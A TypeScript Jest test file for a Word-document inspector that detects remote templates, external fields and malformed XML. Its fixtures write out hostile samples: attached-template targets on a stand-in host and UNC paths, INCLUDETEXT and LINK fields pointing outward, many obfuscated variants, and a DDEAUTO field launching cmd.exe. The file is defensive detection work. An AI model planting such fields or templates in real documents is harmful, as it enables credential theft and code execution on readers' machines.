import { isRemote, readParts } from './inspect-docx';

jest.mock('../../../files/child-program');

describe('read parts', () => {
  const TEMPLATE =
    '<Relationship Target="https://jahat.example/t.dotm?a>b" Type="x/attachedTemplate"/>';
  const readLists = (lists: readonly (string | Buffer)[]) =>
    readParts({ lists: lists.map((list) => Buffer.from(list)), contents: [] });

  it('reads relationships and types', async () => {
    const rels = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><!-- a -->
    <p:Relationships xmlns:p="r"><p:Relationship Id='a>b' Type='t' Target="h&#x74;tp&#58;//a?b&amp;c"
      TargetMode="External"></p:Relationship></p:Relationships>`;
    const types =
      '<Types><Default Extension="a" ContentType="b"/><Override ContentType="c"/></Types>';
    expect(await readLists([rels, types, TEMPLATE])).toMatchObject({
      relationships: [
        { type: 't', target: 'http://a?b&c', mode: 'External' },
        { type: 'x/attachedTemplate', target: 'https://jahat.example/t.dotm?a>b', mode: '' },
      ],
      contentTypes: ['b', 'c'],
    });
  });

  const ACUTE = '<Types ContentType="\u00e1"/>';
  it.each<[string, Buffer]>([
    ['UTF-8', Buffer.from(ACUTE)],
    ['UTF-8 behind a mark', Buffer.from(`\ufeff${ACUTE}`)],
    ['UTF-16', Buffer.from(`\ufeff${ACUTE}`, 'utf16le')],
    ['UTF-16 the other way round', Buffer.from(`\ufeff${ACUTE}`, 'utf16le').swap16()],
    ['a letter across two pieces', Buffer.from(ACUTE.replace(' ', ' '.repeat(65_515)))],
  ])('reads %s', async (_name, part) => {
    expect(await readLists([part])).toMatchObject({ contentTypes: ['\u00e1'] });
  });

  it.each<[string, string | Buffer]>([
    ['Latin letters in one byte', Buffer.from(ACUTE, 'latin1')],
    ['entities of its own', '<!DOCTYPE a [<!ENTITY t "https://jahat.example">]><a b="&t;"/>'],
    ['a document type of elsewhere', '<!DOCTYPE a SYSTEM "https://jahat.example/a.dtd"><a/>'],
    ['another encoding', `<?xml version="1.0" encoding="UTF-7"?>${TEMPLATE}`],
    ['another version', `<?xml version="1.1"?>${TEMPLATE}`],
    ['an open tag', '<a><Relationship Target="x"'],
    ['an attribute twice', '<Relationship Target="a" Target="b"/>'],
    ['two roots', '<a/><b/>'],
    ['zeros', '<\0a\0/\0>\0'],
    ['nothing', ''],
    ['many beginnings', '<Relationship'.repeat(39_000)],
    ['a tower', '<a>'.repeat(3_000_000)],
    ['a tower that is complete', '<a>'.repeat(300) + '</a>'.repeat(300)],
  ])('refuses %s', async (_name, part) => {
    expect(await readLists(['<a/>', part])).toBeUndefined();
    const contents = ['<a/>', part].map((text) => Buffer.from(text));
    expect(await readParts({ lists: [], contents })).toBeUndefined();
  });

  it('is ended when its time is over', async () => {
    const contents = [Buffer.from(`<a>${'<b/>'.repeat(2_000_000)}</a>`)];
    expect(await readParts({ lists: [], contents }, 1)).toBeUndefined();
  });

  it('reads a megabyte of text', async () => {
    const paragraph = '<w:p><w:r><w:rPr><w:b w:val="1"/></w:rPr><w:t>Siti Aminah</w:t></w:r></w:p>';
    const body = paragraph.repeat(Math.floor(1_000_000 / paragraph.length));
    const contents = [Buffer.from(`<w:document xmlns:w="w">${body}</w:document>`)];
    expect(await readParts({ lists: [], contents })).toMatchObject({
      loadsFromElsewhere: false,
    });
  });
});

describe('a field', () => {
  const NAMES =
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:x="urn:x"';
  const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
  const escape = (text: string) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
  const run = (text: string) => `<w:r><w:instrText>${escape(text)}</w:instrText></w:r>`;
  /** Makes a field whose instruction lies in several runs. */
  const complex = (...runs: readonly string[]) =>
    `${mark('begin')}${runs.map(run).join('<w:bookmarkStart/>')}${mark('separate')}<w:r><w:t>x</w:t></w:r>${mark('end')}`;
  const simple = (instruction: string) => `<w:fldSimple w:instr="${escape(instruction)}"/>`;

  async function loads(body: string): Promise<boolean | undefined> {
    const contents = [Buffer.from(`<w:document ${NAMES}>${body}</w:document>`)];
    return (await readParts({ lists: [], contents }))?.loadsFromElsewhere;
  }

  it.each([
    String.raw` INCLUDEPICTURE "\\\\10.0.0.1\\a\\b.png" \d`,
    String.raw`INCLUDEPICTURE \\10.0.0.1\a\b.png`,
    String.raw` includetext "http://jahat.example/a.docx"`,
    String.raw`INCLUDETEXT “https://jahat.example/a.docx”`,
    String.raw` INCLUDE file://jahat.example/a.docx`,
    String.raw`IMPORT "//jahat.example/a.png"`,
    String.raw`LINK Excel.Sheet.12 "\\\\jahat.example\\a.xlsx" "A1"`,
    String.raw`RD "ftp://jahat.example/a.docx"`,
    String.raw` DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"`,
    String.raw`"DDE" excel a b`,
  ])('%s is refused, however it is written', async (instruction) => {
    const letters = [...instruction];
    expect(await loads(simple(instruction))).toBe(true);
    expect(await loads(complex(instruction))).toBe(true);
    expect(await loads(complex(...letters))).toBe(true);
    expect(await loads(`${mark('begin')}${run(instruction)}`)).toBe(true);
    expect(await loads(complex(...letters).replaceAll('w:instrText', 'w:delInstrText'))).toBe(true);
    const inAnother = `${mark('begin')}${run('IF 1 = 1 ')}${complex(instruction)}${mark('end')}`;
    expect(await loads(inAnother)).toBe(true);
  });

  it.each([
    ['whose name is made of another', `${mark('begin')}${complex('QUOTE 68 68 69')}${run(' a')}`],
    [
      'whose name goes on in another',
      `${mark('begin')}${run('LIN')}${complex('QUOTE 75')}${run(' a')}${mark('end')}`,
    ],
    [
      'whose address is made of another',
      `${mark('begin')}${run('INCLUDETEXT ')}${simple('QUOTE 92 92')}${run(' b')}${mark('end')}`,
    ],
    [
      'behind a mark that Word does not know',
      complex('INCLUDETEXT ', 'http://a').replace(
        '<w:bookmarkStart/>',
        '<x:fldChar x:fldCharType="end"/>',
      ),
    ],
    [
      'in the midst of texts that Word does not know',
      complex('INCLUDE', 'TEXT http://a').replace(
        '<w:bookmarkStart/>',
        '<x:instrText>Q</x:instrText>',
      ),
    ],
    [
      'behind an end that Word may leave out',
      complex('INCLUDETEXT ', 'http://a').replace(
        '<w:bookmarkStart/>',
        `<x:Choice>${mark('end')}</x:Choice>`,
      ),
    ],
    [
      'whose beginning Word may leave out',
      `<x:Choice>${mark('begin')}</x:Choice>${run('INCLUDETEXT http://a')}${mark('end')}`,
    ],
    [
      'in the midst of what is deleted',
      complex('INCLUDE', 'TEXT http://a').replace(
        '<w:bookmarkStart/>',
        '<w:r><w:delInstrText>Q</w:delInstrText></w:r>',
      ),
    ],
    ['across a tab', complex('INCLUDETEXT', 'http://a').replace('<w:bookmarkStart/>', '<w:tab/>')],
    ['across lines', complex('INCLUDETEXT', 'http://a').replace('<w:bookmarkStart/>', '<w:p/>')],
    [
      'with an address that is text',
      `${mark('begin')}${run('INCLUDETEXT ')}<w:r><w:t>http://a</w:t></w:r>${mark('end')}`,
    ],
    ['with both strokes', complex('INCLUDETEXT "/\\10.0.0.1\\a"')],
  ])('%s is refused', async (_name, body) => {
    expect(await loads(body)).toBe(true);
  });

  it.each([
    '<w:fldChar x:fldCharType="end" w:fldCharType="begin"/>',
    '<w:fldSimple x:instr="PAGE" w:instr="INCLUDETEXT http://a"/>',
  ])('%s with two meanings is as good as damage', async (element) => {
    expect(await loads(element)).toBeUndefined();
  });

  it.each([
    String.raw` PAGE  \* MERGEFORMAT `,
    ' HYPERLINK "https://example.com/" ',
    String.raw`TOC \o "1-3" \h \z \u`,
    String.raw` DATE \@ "d MMMM yyyy HH:mm" `,
    String.raw` INCLUDEPICTURE "C:\\Users\\Siti\\foto.jpg" \* MERGEFORMAT`,
    String.raw`LINK Excel.Sheet.12 "C:\\Users\\Siti\\a.xlsx" "Sheet1!R1C1:R5C3" \a`,
    'linked "https://example.com"',
    '',
  ])('%s is not', async (instruction) => {
    expect(await loads(simple(instruction) + complex(...instruction))).toBe(false);
  });

  it('is none in the text', async () => {
    const text = '<w:r><w:t>DDEAUTO c:\\cmd.exe</w:t></w:r>';
    expect(await loads(text + run('INCLUDETEXT http://a'))).toBe(false);
    expect(await loads(complex('PAGE') + text)).toBe(false);
    expect(await loads(`<x:Choice>${complex('PAGE')}</x:Choice>${text}`)).toBe(false);
  });

  it('may bear a format of later editions', async () => {
    const format = '<w:instrText>';
    const later = complex(' PAGE ').replace(format, `<w:rPr><x:glow x:rad="1"/></w:rPr>${format}`);
    expect(await loads(later)).toBe(false);
  });
});

describe('is remote', () => {
  const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/';
  const STRICT = 'http://purl.oclc.org/ooxml/officeDocument/relationships/';

  const template = (target: string, mode = 'External') =>
    isRemote({ type: `${OFFICE}attachedTemplate`, target, mode });

  it.each([
    'https://jahat.example/t.dotm',
    'https://jahat.example/t.dotm?a>b',
    'HTTPS:\\\\jahat.example\\t.dotm',
    'http:/jahat.example/t.dotm',
    'http:jahat.example',
    'file://server/t.dotm',
    'file:////server/t.dotm',
    'file:///\\\\server\\t.dotm',
    '\\\\server\\t.dotm',
    '//server/t.dotm',
    '\\\\?\\UNC\\server\\t.dotm',
    'mhtml:http://jahat.example',
    ' \tht\ntps://jahat.example',
    '%68ttps://jahat.example',
    '../t.dotm',
    '',
  ])('a template at %j', (target) => {
    expect(template(target)).toBe(true);
  });

  it.each(['Internal', '', 'internal'])('a template elsewhere that is said to be %j', (mode) => {
    expect(template('https://jahat.example/t.dotm', mode)).toBe(true);
    expect(template('\\\\server\\t.dotm', mode)).toBe(true);
    expect(template('template.dotx', mode)).toBe(false);
  });

  it.each(['EXTERNAL', ' External', 'Elsewhere'])('a template that is %j', (mode) => {
    expect(template('../t.dotm', mode)).toBe(true);
  });

  it.each(['oleObject', 'subDocument', 'frame', 'aFChunk', 'video', 'mailMergeSource', 'apa saja'])(
    'anything else that Word may load: %s',
    (kind) => {
      const target = 'https://jahat.example/';
      expect(isRemote({ type: OFFICE + kind, target, mode: 'External' })).toBe(true);
      expect(isRemote({ type: STRICT + kind, target, mode: 'External' })).toBe(true);
    },
  );

  it.each([
    'file:///C:\\Users\\Siti\\Templates\\Resume.dotx',
    'file:///c:/Users/Siti%20A/Normal.dotm',
    'Normal.dotm',
    'Riwayat Hidup.dotx',
  ])("not a template on the writer's own disk: %j", (target) => {
    expect(template(target)).toBe(false);
  });

  it('not a link, which a reader has to click', () => {
    for (const target of ['https://example.com/', 'mailto:siti@example.com', '../x', '#atas']) {
      for (const type of [`${OFFICE}hyperlink`, `${STRICT}hyperlink`]) {
        expect(isRemote({ type, target, mode: 'External' })).toBe(false);
      }
    }
  });

  it('not a picture of the web, but one of a server, which Word would log in to', () => {
    const picture = (target: string) =>
      isRemote({ type: `${OFFICE}image`, target, mode: 'External' });
    expect(picture('https://example.com/foto.jpg')).toBe(false);
    expect(picture('file:///C:\\foto.jpg')).toBe(false);
    expect(picture('\\\\server\\foto.jpg')).toBe(true);
    expect(picture('file://server/foto.jpg')).toBe(true);
  });
});
